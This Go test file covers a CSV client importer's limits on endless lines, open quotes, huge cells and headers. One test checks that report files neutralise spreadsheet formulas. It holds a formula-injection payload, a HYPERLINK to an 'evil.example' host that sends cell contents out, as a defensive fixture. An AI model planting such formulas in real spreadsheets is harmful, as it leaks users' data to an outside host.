package importer

import (
	"encoding/csv"
	"errors"
	"io"
	"runtime"
	"strings"
	"testing"
)

// endless is a reader of one byte, for ever.
type endless byte

func (e endless) Read(p []byte) (int, error) {
	for i := range p {
		p[i] = byte(e)
	}
	return len(p), nil
}

// TestALineThatNeverEnds: `salon import clients /dev/zero` grew to 23.8
// GB; a 100 MB line cost 579 MB. A line is bounded: past MaxLine the
// reader stops with a *FileError naming the line, having held about one
// line's worth.
func TestALineThatNeverEnds(t *testing.T) {
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	_, err := NewReader(io.MultiReader(strings.NewReader("name,phone\nAnna,+79990000001\n"), endless(0)), "ru")
	if err != nil {
		t.Fatalf("the header: %v", err)
	}
	r, _ := NewReader(io.MultiReader(strings.NewReader("name,phone\nAnna,+79990000001\n"), endless('x')), "ru")
	if rec, err := r.Next(); err != nil || rec.Line != 2 {
		t.Fatalf("the first row: %v %v", rec, err)
	}
	_, err = r.Next()
	var fe *FileError
	if !errors.As(err, &fe) || fe.Line != 3 {
		t.Fatalf("an endless third line: %v, want a FileError at line 3", err)
	}
	runtime.ReadMemStats(&after)
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 16*MaxLine {
		t.Errorf("reading an endless line allocated %d MiB", grew>>20)
	}
	if _, err := NewReader(endless(0), "ru"); !errors.As(err, &fe) || fe.Line != 1 {
		t.Errorf("a file of one endless line: %v, want a FileError at line 1", err)
	}
}

// TestAnUnterminatedQuoteRejectsItsRowOnly: a quote that opens a cell and
// never closes swallowed the rest of the file into one row ("phone:
// required" for 1000 rows). Now its row is rejected, naming the quote,
// and the lines after it are rows again.
func TestAnUnterminatedQuoteRejectsItsRowOnly(t *testing.T) {
	var b strings.Builder
	b.WriteString("name,phone\n\"Anna,+79990000001\n")
	for i := range 1000 {
		b.WriteString("Client,+7999" + strings.Repeat("0", 3) + string(rune('0'+i%10)) + "000\n")
	}
	r, err := NewReader(strings.NewReader(b.String()), "ru")
	if err != nil {
		t.Fatal(err)
	}
	_, err = r.Next()
	var le *LineError
	if !errors.As(err, &le) || le.Line != 2 || le.Column != 1 || !strings.Contains(le.Reason.String(), "quote") {
		t.Fatalf("the row with the open quote: %v", err)
	}
	rows := 0
	for {
		rec, err := r.Next()
		if errors.Is(err, io.EOF) {
			break
		}
		if err != nil {
			t.Fatalf("after the quote: %v", err)
		}
		if rows == 0 && rec.Line != 3 {
			t.Errorf("the first row after the quote is on line %d, want 3", rec.Line)
		}
		rows++
	}
	if rows != 1000 {
		t.Errorf("%d rows after the open quote, want 1000", rows)
	}
	// An open quote at the end of the file rejects its row too.
	r, _ = NewReader(strings.NewReader("name,phone\nAnna,1\n\"Boris,2"), "ru")
	_, _ = r.Next()
	if _, err := r.Next(); !errors.As(err, &le) || le.Line != 3 {
		t.Errorf("an open quote at the end: %v", err)
	}
}

// TestALongCellRejectsItsRow: a cell over MaxCell rejects its row (the
// next rows are read), and what is kept of it is bounded.
func TestALongCellRejectsItsRow(t *testing.T) {
	data := "name,phone\n" + strings.Repeat("y", 20<<20) + ",1\n\"" + strings.Repeat("z", 10<<10) + "\",2\nBoris,3\n"
	r, err := NewReader(strings.NewReader(data), "ru")
	if err != nil {
		t.Fatal(err)
	}
	var le *LineError
	if _, err := r.Next(); !errors.As(err, &le) || le.Line != 2 || le.Column != 1 {
		t.Fatalf("a 20 MB cell: %v", err)
	}
	if _, err := r.Next(); !errors.As(err, &le) || le.Line != 3 || !strings.Contains(le.Reason.String(), "longer than") {
		t.Fatalf("a quoted 10 KiB cell: %v, want it too long (its quote closes)", err)
	}
	if rec, err := r.Next(); err != nil || rec.Fields[0] != "Boris" {
		t.Fatalf("the row after: %v %v", rec, err)
	}
}

// TestReportsAreBounded: a rejected 20 MB cell became a 20 MB report
// line, and 200k unknown columns a 1.7 MB line. A report shows
// MaxValueShown runes of a value and says how long it was; a summary names
// MaxUnknownShown unknown columns and counts the rest.
func TestReportsAreBounded(t *testing.T) {
	if s := shorten(strings.Repeat("я", 10_000), MaxValueShown); len([]rune(s)) > MaxValueShown+20 || !strings.Contains(s, "20000 bytes") {
		t.Errorf("a shortened value: %.80q…", s)
	}
	header := []string{"name", "phone"}
	for i := range 200_000 {
		header = append(header, "extra"+strings.Repeat("x", i%3))
	}
	l, err := mapHeader(Clients, header)
	if err != nil {
		t.Fatal(err)
	}
	if len(l.unknown) != MaxUnknownShown || l.moreUnknown != 200_000-MaxUnknownShown {
		t.Errorf("%d unknown columns named and %d counted", len(l.unknown), l.moreUnknown)
	}
}

// TestARowOfEmptyCellsIsBounded: a line of 30 million delimiters was 30
// million cells (480 MB of string headers); and a cell of doubled quotes
// ("" is one quote) kept its whole text to give back. A row keeps
// MaxFields cells and counts the rest; a quote must close within
// MaxQuoted.
func TestARowOfEmptyCellsIsBounded(t *testing.T) {
	data := "name,phone\nAnna,1" + strings.Repeat(",", 30<<20) + "x\nBoris,2\n"
	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	r, err := NewReader(strings.NewReader(data), "ru")
	if err != nil {
		t.Fatal(err)
	}
	rec, err := r.Next()
	if err != nil || len(rec.Fields) != MaxFields || rec.Fields[0] != "Anna" || r.scan.dropped != 1 {
		t.Fatalf("a row of 30M cells: %d cells kept, %d dropped, %v", len(rec.Fields), r.scan.dropped, err)
	}
	if rec, err := r.Next(); err != nil || rec.Fields[0] != "Boris" {
		t.Fatalf("the row after: %v %v", rec, err)
	}
	runtime.ReadMemStats(&after)
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 8<<20 {
		t.Errorf("reading 30M empty cells allocated %d MiB", grew>>20)
	}

	// A header past MaxFields: its first cells are read, the rest counted.
	header := "name,phone" + strings.Repeat(",extra", 200_000)
	r, err = NewReader(strings.NewReader(header+"\nAnna,1\n"), "ru")
	if err != nil {
		t.Fatal(err)
	}
	if len(r.Header) != MaxFields || r.HeaderPast != 200_002-MaxFields {
		t.Errorf("a header of 200002 cells: %d read, %d counted", len(r.Header), r.HeaderPast)
	}

	// Doubled quotes for ever: the quote does not close within MaxQuoted,
	// and the line is too long.
	runtime.GC()
	runtime.ReadMemStats(&before)
	r, _ = NewReader(io.MultiReader(strings.NewReader("name,phone\n"), endless('"')), "ru")
	var fe *FileError
	if _, err := r.Next(); !errors.As(err, &fe) || fe.Line != 2 {
		t.Fatalf("a line of quotes: %v, want a FileError at line 2", err)
	}
	runtime.ReadMemStats(&after)
	if grew := after.TotalAlloc - before.TotalAlloc; grew > 8<<20 {
		t.Errorf("reading a line of quotes allocated %d MiB", grew>>20)
	}
	// A quoted cell past MaxQuoted on one line rejects its row; the next
	// line is a row.
	r, _ = NewReader(strings.NewReader("name,phone\n\""+strings.Repeat(`""`, MaxQuoted)+"\nBoris,2\n"), "ru")
	var le *LineError
	if _, err := r.Next(); !errors.As(err, &le) || le.Line != 2 || !strings.Contains(le.Reason.String(), "quote") {
		t.Fatalf("a quoted cell of doubled quotes: %v", err)
	}
	if rec, err := r.Next(); err != nil || rec.Fields[0] != "Boris" {
		t.Fatalf("the row after: %v %v", rec, err)
	}
}

// TestAReportIsNoFormula: a report is opened in a spreadsheet, and its
// values are what the file held, a formula a client once typed too; it
// is written as text, as an export is.
func TestAReportIsNoFormula(t *testing.T) {
	var b strings.Builder
	r, err := NewReportWriter(&b, false)
	if err != nil {
		t.Fatal(err)
	}
	if err := r.Add(Line{Line: 2, Outcome: "rejected", Key: `=HYPERLINK("http://evil.example/?"&A1)`, Column: "phone", Value: "=1+2",
		Reason: "not a phone", Alternatives: []string{"+7 912 345-67-89"}}); err != nil {
		t.Fatal(err)
	}
	if err := r.Close(nil); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("%q %v", b.String(), err)
	}
	for _, cell := range rows[1] {
		if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
			t.Errorf("the report's cell %q is a formula", cell)
		}
	}
	if rows[1][4] != "'=1+2" || rows[1][6] != "'+7 912 345-67-89" {
		t.Errorf("the report's row: %q", rows[1])
	}
}
